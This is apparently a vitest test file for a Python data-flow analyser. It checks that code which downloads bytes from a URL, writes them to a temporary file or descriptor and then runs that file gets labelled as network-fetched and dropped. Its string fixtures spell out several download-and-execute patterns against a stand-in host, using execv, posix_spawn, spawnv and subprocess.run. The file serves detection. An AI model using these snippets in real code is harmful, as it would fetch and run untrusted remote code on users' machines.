import { expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

const FETCH =
  'import os, subprocess, tempfile, urllib.request\ndata = urllib.request.urlopen("https://a.weir.test/x").read()\n';

/** Whether the last command starts what a server answered. */
function isStarted(source: string): boolean {
  const flow = analyzePython(FETCH + source).flow.flows.findLast(({ sink }) => sink === 'command');
  const labels = LABEL.network | LABEL.dropped;
  return ((flow?.labels ?? 0) & labels) === labels;
}

test.each([
  [
    'a temporary file, in a child',
    'fd, path = tempfile.mkstemp()\nos.write(fd, data)\nif os.fork() == 0:\n  os.execv(path, [path])\n',
  ],
  [
    'a file that is opened',
    'fd = os.open("/tmp/own", 65)\nos.write(fd, data)\nos.posix_spawn("/tmp/own", ["own"], {})\n',
  ],
  [
    'a descriptor in a stream',
    'fd, path = tempfile.mkstemp()\nwith os.fdopen(fd, "wb") as out:\n  out.write(data)\nos.spawnv(os.P_NOWAIT, path, [path])\n',
  ],
  [
    'a descriptor that is opened again',
    'fd, path = tempfile.mkstemp()\nopen(fd, "wb").write(data)\nsubprocess.run([path])\n',
  ],
])('what is written to a descriptor is in the file that is started: %s', (_, source) => {
  expect(isStarted(source)).toBe(true);
});

test('what is written to another descriptor is in no file', () => {
  expect(isStarted('os.write(1, data)\nsubprocess.run(["/tmp/own"])\n')).toBe(false);
  expect(isStarted('fd, path = tempfile.mkstemp()\nos.write(fd, b"#!")\nsubprocess.run([path])\n')).toBe(
    false,
  );
});

test('a function that may give an address gives it', () => {
  const asked = (source: string): unknown =>
    analyzePython(`import requests\n${source}`).flow.flows.map(({ targets }) =>
      targets.map(({ text }) => text),
    );
  const fetch = 'url = find()\nif url:\n  requests.get(url)\n';
  expect(
    asked(
      `def find():\n  for x in known():\n    if x:\n      return "https://a.weir.test/x"\n  return None\n${fetch}`,
    ),
  ).toEqual([['https://a.weir.test/x']]);
  expect(
    asked(
      `ALL = {"a": "https://a.weir.test/x", "b": "https://a.weir.test/y"}\ndef find():\n  for x in known():\n    if x in ALL:\n      return ALL[x]\n  return None\n${fetch}`,
    ),
  ).toEqual([['https://a.weir.test/x']]);
  // What is not known may be something, too.
  expect(asked(`def find():\n  if known():\n    return known()\n  return None\n${fetch}`)).toEqual([[]]);
});
